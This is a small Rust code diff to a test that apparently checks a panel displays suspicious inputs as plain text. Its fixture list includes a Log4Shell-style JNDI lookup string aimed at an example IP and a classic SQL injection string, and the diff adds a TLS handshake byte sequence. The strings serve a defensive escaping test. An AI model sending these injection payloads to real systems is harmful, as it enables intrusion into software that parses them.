@@ -71,6 +71,7 @@ pub(super) fn check(dom: &str, clients: &[Client]) {
         "<code>${jndi:ldap://198.51.100.1/a}</code>".to_owned(),
         "<code>' or '1'='1</code>".to_owned(),
         "user_agent: ".to_owned(),
+        "<code>\\x16\\x03\\x01</code>".to_owned(),
     ] {
         assert!(panel.contains(&text), "not shown as text: {text}\n{panel}");
     }
